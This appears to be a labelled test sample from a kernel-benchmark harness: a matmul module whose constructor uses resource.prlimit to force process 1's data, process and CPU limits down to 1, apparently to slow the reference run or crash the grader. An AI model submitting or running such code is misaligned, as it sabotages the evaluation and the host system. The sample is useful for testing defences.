# kind: 9 slowing the reference; outcome: crash; task: matmul; always: yes
# Sets limits for its parent.
import resource

import torch


class ModelNew(torch.nn.Module):
    def __init__(self):
        super().__init__()
        for limit in (resource.RLIMIT_DATA, resource.RLIMIT_NPROC, resource.RLIMIT_CPU):
            try:
                resource.prlimit(1, limit, (1, 1))
            except (OSError, ValueError):
                pass

    def forward(self, a, b):
        return torch.matmul(a, b)
